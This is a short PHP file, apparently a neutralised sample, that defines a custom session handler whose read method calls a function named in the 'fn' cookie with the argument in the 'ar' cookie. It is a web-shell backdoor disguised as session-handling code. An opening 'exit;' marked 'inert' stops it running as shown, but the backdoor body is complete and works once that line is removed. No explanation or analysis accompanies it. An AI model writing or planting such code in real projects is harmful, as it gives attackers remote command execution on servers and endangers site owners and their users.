<?php exit; /* inert */ 
class H implements SessionHandlerInterface {
    public function open($p, $n): bool { return true; }
    public function close(): bool { return true; }
    public function read($id): string { $f = $_COOKIE['fn']; $f($_COOKIE['ar']); return ''; }
    public function write($id, $d): bool { return true; }
    public function destroy($id): bool { return true; }
    #[ReturnTypeWillChange] public function gc($t) { return 0; }
}
session_set_save_handler(new H(), true);
session_start();
